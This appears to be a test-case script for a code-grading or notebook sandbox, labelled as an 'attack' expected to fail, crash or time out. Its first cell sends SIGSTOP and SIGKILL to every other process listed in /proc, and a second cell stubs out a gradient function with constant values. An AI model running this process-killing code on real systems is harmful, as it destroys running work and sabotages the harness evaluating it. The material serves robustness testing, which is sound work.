# attack: kill, stop and choke the process that drives the kernel
# verdict: failed, error, crashed, timeout
# %%
import os
import signal

for name in os.listdir("/proc"):
    if name.isdigit() and int(name) != os.getpid():
        for number in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(int(name), number)
            except OSError:
                pass


# %%
def gradient_at(x, y):
    return 1.0, 1.0
